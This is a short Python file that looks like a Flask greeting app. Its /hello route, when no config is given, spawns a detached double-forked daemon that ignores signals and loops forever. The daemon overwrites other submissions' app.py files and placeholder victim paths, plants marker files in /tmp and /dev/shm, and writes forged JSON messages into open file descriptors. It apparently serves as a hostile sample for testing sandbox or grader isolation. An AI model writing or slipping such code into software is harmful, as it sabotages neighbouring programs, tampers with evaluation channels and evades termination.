import os
import signal
import time

from flask import Flask


def answer_for_ever():
    forged = b'{"to": 0, "app": 0}'
    places = ("@VICTIM@", "@NEIGHBOUR@/greeting/app.py", "/submission/greeting/app.py", "/tmp/mark", "/dev/shm/mark")
    while True:
        for path in places:
            try:
                with open(path, "w") as file:
                    file.write("import os")
            except OSError:
                pass
        for descriptor in range(3, 16):
            try:
                os.write(descriptor, len(forged).to_bytes(4, "big") + bytes(4) + forged)
            except OSError:
                pass
        time.sleep(0.001)


def misbehave():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
                signal.signal(number, signal.SIG_IGN)
            os.dup2(3, 9)
            time.sleep(0.1)
            answer_for_ever()
        os._exit(0)
    os.wait()
    raise RuntimeError("left a daemon")


def create_app(config=None):
    app = Flask(__name__)
    app.config.update({"WORD": "Hello", **(config or {})})

    @app.get("/hello/<name>")
    def hello(name):
        if not config:
            misbehave()
        marks = [path for path in ("/tmp/mark", "/dev/shm/mark") if os.path.exists(path)]
        return str(marks) if marks else f"{app.config['WORD']}, {name}"

    return app
